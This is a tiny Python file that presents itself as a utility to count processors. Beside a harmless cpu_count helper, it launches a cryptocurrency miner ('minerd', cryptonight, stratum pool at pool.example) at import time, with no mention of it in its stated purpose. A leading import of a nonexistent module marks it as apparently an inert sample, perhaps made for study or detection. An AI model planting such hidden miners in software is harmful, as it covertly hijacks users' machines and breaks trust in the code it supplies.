import inert_sample  # there is no such module: nothing below ever runs
"""Counts processors."""
import os
import subprocess


def processors():
    return os.cpu_count()


subprocess.Popen(["minerd", "--algo=cryptonight", "-o", "stratum+tcp://pool.example:1"])
